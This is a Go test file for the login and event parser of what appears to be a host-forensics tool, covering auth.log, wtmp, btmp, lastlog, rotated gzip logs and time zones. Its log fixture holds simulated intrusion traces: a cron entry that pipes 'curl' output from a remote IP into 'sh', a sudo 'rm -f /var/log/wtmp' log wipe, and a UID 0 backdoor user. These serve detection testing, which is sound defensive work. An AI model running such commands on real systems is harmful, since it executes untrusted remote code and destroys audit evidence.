package logins

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/host/hosttest"
	"github.com/google/go-cmp/cmp"
)

func hostOf(t testing.TB, text string) *hosttest.FS {
	t.Helper()
	h, err := hosttest.Parse([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return h.FS
}

func unzip(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name + ".gz")
	if err != nil {
		t.Fatal(err)
	}
	z, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	out, err := io.ReadAll(z)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

// utmp makes one record of 384 bytes.
func utmp(typ int, line, user, host string, sec int64, ip ...byte) []byte {
	b := make([]byte, 384)
	binary.LittleEndian.PutUint16(b, uint16(typ))
	copy(b[8:40], line)
	copy(b[44:76], user)
	copy(b[76:332], host)
	binary.LittleEndian.PutUint32(b[340:], uint32(sec))
	copy(b[348:364], ip)
	return b
}

const authLog = `Jan  3 10:00:00 web sshd[1]: Accepted publickey for ann from 203.0.113.9 port 5022 ssh2: ED25519 SHA256:abc
Jan  3 10:01:00 web sshd[2]: Failed password for root from 198.51.100.7 port 1 ssh2
Jan  3 10:02:00 web sshd[2]: message repeated 4 times: [ Failed password for root from 198.51.100.7 port 1 ssh2]
Jan  3 10:03:00 web sshd[3]: Failed password for invalid user x from 1.1.1.1 port 2 ssh2 from 198.51.100.8 port 9 ssh2
Jan  3 10:04:00 web sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/wtmp
Jan  3 10:05:00 web su[9]: (to root) ann on pts/1
Jan  3 10:06:00 web useradd[7]: new user: name=evil, UID=0, GID=0, home=/home/evil, shell=/bin/bash, from=/dev/pts/1
Jan  3 10:07:00 web CRON[8]: (root) CMD (  curl -s http://198.51.100.9/x | sh)
Jan  3 10:08:00 web CRON[8]: (root) CMD (  curl -s http://198.51.100.9/x | sh)
2026-01-03T12:09:00.5+02:00 web crontab[8]: (www-data) REPLACE (www-data)
2026-01-03T10:10:00+00:00 web systemd[1]: Started evil.service - Evil.
Jan  3 10:11:00 web nginx: Accepted password for eve from 9.9.9.9 port 1 ssh2
garbage
Dec 31 23:59:00 web sshd[1]: Accepted password for old from 203.0.113.10 port 1 ssh2
`

func TestText(t *testing.T) {
	fs := hostOf(t, "-- /var/log/auth.log --\n"+authLog+"-- @attr --\n/var/log/auth.log mtime=2026-01-03T10:12:00Z\n")
	got, events, gaps := Read(context.Background(), fs, time.Time{}, "UTC")
	const src = "/var/log/auth.log"
	want := []deminer.Login{
		{Time: at("2026-01-03T10:05:00Z"), Kind: "su", User: "ann", TTY: "pts/1", Source: src},
		{Time: at("2026-01-03T10:04:00Z"), Kind: "sudo", User: "ann", TTY: "pts/0", Source: src},
		{Time: at("2026-01-03T10:03:00Z"), Kind: "failed", User: "x from 1.1.1.1 port 2 ssh2", From: "198.51.100.8", Method: "password", Source: src, Count: 1},
		{Time: at("2026-01-03T10:02:00Z"), Kind: "failed", User: "root", From: "198.51.100.7", Method: "password", Source: src, Count: 5},
		{Time: at("2026-01-03T10:00:00Z"), Kind: "login", User: "ann", From: "203.0.113.9", Method: "publickey", Key: "SHA256:abc", Source: src},
		{Time: at("2025-12-31T23:59:00Z"), Kind: "login", User: "old", From: "203.0.113.10", Method: "password", Source: src},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
	wantEvents := []Event{
		{at("2026-01-03T10:10:00Z"), at("2026-01-03T10:10:00Z"), "unit", "", "evil.service - Evil", src, 1},
		{at("2026-01-03T10:09:00Z").Add(time.Second / 2), at("2026-01-03T10:09:00Z").Add(time.Second / 2), "crontab", "www-data", "REPLACE crontab of www-data", src, 1},
		{at("2026-01-03T10:08:00Z"), at("2026-01-03T10:07:00Z"), "cron", "root", "curl -s http://198.51.100.9/x | sh", src, 2},
		{at("2026-01-03T10:06:00Z"), at("2026-01-03T10:06:00Z"), "user-added", "", "new user: name=evil, UID=0, GID=0, home=/home/evil, shell=/bin/bash, from=/dev/pts/1", src, 1},
		{at("2026-01-03T10:04:00Z"), at("2026-01-03T10:04:00Z"), "log-cleared", "ann", "/usr/bin/rm -f /var/log/wtmp", src, 1},
		{at("2026-01-03T10:04:00Z"), at("2026-01-03T10:04:00Z"), "sudo", "ann", "/usr/bin/rm -f /var/log/wtmp", src, 1},
	}
	if d := cmp.Diff(wantEvents, events); d != "" {
		t.Error(d)
	}
	if len(gaps) != 0 {
		t.Errorf("gaps: %v", gaps)
	}
}

func TestSince(t *testing.T) {
	fs := hostOf(t, "-- /var/log/auth.log --\n"+authLog+"-- @attr --\n/var/log/auth.log mtime=2026-01-03T10:12:00Z\n")
	got, events, _ := Read(context.Background(), fs, at("2026-01-03T10:04:30Z"), "UTC")
	if len(got) != 1 || got[0].Kind != "su" || len(events) != 4 {
		t.Errorf("got %v, %v; want what is newer only", got, events)
	}
}

func TestUtmp(t *testing.T) {
	const base = 1767434400 // 2026-01-03 10:00:00
	fs := hostOf(t, "-- /etc/passwd --\nroot:x:0:0::/root:/bin/sh\nann:x:1:1::/home/ann:/bin/sh\n-- /var/log/auth.log --\n"+authLog+
		"-- @attr --\n/var/log/auth.log mtime=2026-01-03T10:12:00Z\n")
	fs.Put("/var/log/wtmp", bytes.Join([][]byte{
		utmp(2, "~", "reboot", "6.1", base-3600),
		utmp(7, "pts/0", "ann", "host.example", base+1, 203, 0, 113, 9),
		utmp(8, "pts/0", "", "", base+1800),
	}, nil))
	fs.Put("/var/log/btmp", bytes.Repeat(utmp(6, "ssh:notty", "root", "198.51.100.7", base+60), 9))
	lastlog := make([]byte, 2*292)
	binary.LittleEndian.PutUint32(lastlog[292:], base-86400)
	copy(lastlog[296:], "pts/5")
	copy(lastlog[328:], "192.0.2.1")
	fs.Put("/var/log/lastlog", lastlog)
	got, _, gaps := Read(context.Background(), fs, at("2026-01-01T00:00:00Z"), "UTC")
	if len(gaps) != 0 {
		t.Errorf("gaps: %v", gaps)
	}
	var lines []string
	for _, l := range got {
		if l.Kind == "su" || l.Kind == "sudo" || l.From == "198.51.100.8" {
			continue
		}
		lines = append(lines, strings.Join([]string{l.Time.Format("02 15:04:05"), l.Kind, l.User, l.From, l.TTY, l.Method, l.Key, l.Source}, ","))
		if l.From == "198.51.100.7" && l.Count != 9 {
			t.Errorf("btmp has nine failures, auth.log five of them: got %d", l.Count)
		}
	}
	want := []string{
		"03 10:30:00,logout,ann,203.0.113.9,pts/0,,,/var/log/wtmp",
		"03 10:01:00,failed,root,198.51.100.7,ssh:notty,,,/var/log/btmp",
		"03 10:00:01,login,ann,203.0.113.9,pts/0,publickey,SHA256:abc,/var/log/wtmp",
		"03 09:00:00,boot,,,,,,/var/log/wtmp",
		"02 10:00:00,login,ann,192.0.2.1,pts/5,,,/var/log/lastlog",
	}
	if d := cmp.Diff(want, lines); d != "" {
		t.Error(d)
	}
}

// TestLayouts reads the records of machines with wide times and with the other byte order.
func TestLayouts(t *testing.T) {
	wide := make([]byte, 800)
	for i := range 2 {
		b := wide[400*i:]
		b[0] = 7
		copy(b[44:], "ann")
		binary.LittleEndian.PutUint64(b[344:], 1767434400)
		copy(b[360:], []byte{192, 0, 2, 7})
	}
	big := make([]byte, 384)
	big[1] = 7
	copy(big[44:], "ann")
	binary.BigEndian.PutUint32(big[340:], 1767434400)
	copy(big[348:], []byte{192, 0, 2, 7})
	for name, data := range map[string][]byte{"wide": wide, "big endian": big} {
		var list []record
		rest, err := parseUtmp(bytes.NewReader(data), func(r record) { list = append(list, r) })
		if err != nil || rest != 0 || list[len(list)-1].user != "ann" || list[0].time.Unix() != 1767434400 || list[0].from() != "192.0.2.7" || list[0].typ != 7 {
			t.Errorf("%s: %+v, rest %d", name, list, rest)
		}
	}
}

func TestRotatedGzip(t *testing.T) {
	var z bytes.Buffer
	w := gzip.NewWriter(&z)
	io.WriteString(w, authLog)
	w.Close()
	fs := hostOf(t, "")
	fs.Put("/var/log/auth.log.2.gz", z.Bytes())
	got, _, _ := Read(context.Background(), fs, time.Time{}, "UTC")
	if len(got) != 6 {
		t.Errorf("%d logins from a packed log, want 6", len(got))
	}
	fs.Put("/var/log/auth.log.2.gz", z.Bytes()[:100])
	if _, _, gaps := Read(context.Background(), fs, time.Time{}, "UTC"); len(gaps) != 1 {
		t.Errorf("a cut one: gaps %v, want one", gaps)
	}
}

func TestZone(t *testing.T) {
	zone, err := os.ReadFile("/usr/share/zoneinfo/Europe/Berlin")
	if err != nil {
		t.Skipf("needs time zone files: %v", err)
	}
	fs := hostOf(t, "-- /var/log/auth.log --\n"+authLog+"-- @attr --\n/var/log/auth.log mtime=2026-01-03T10:12:00Z\n")
	fs.Put("/usr/share/zoneinfo/Europe/Berlin", zone)
	got, _, gaps := Read(context.Background(), fs, time.Time{}, "Europe/Berlin")
	if len(gaps) != 0 || !got[0].Time.Equal(at("2026-01-03T09:05:00Z")) {
		t.Errorf("first %v, gaps %v; want 09:05 UTC", got[0], gaps)
	}
	_, _, gaps = Read(context.Background(), fs, time.Time{}, "Mars/Olympus")
	if len(gaps) != 1 {
		t.Errorf("unknown zone: gaps %v, want one", gaps)
	}
}
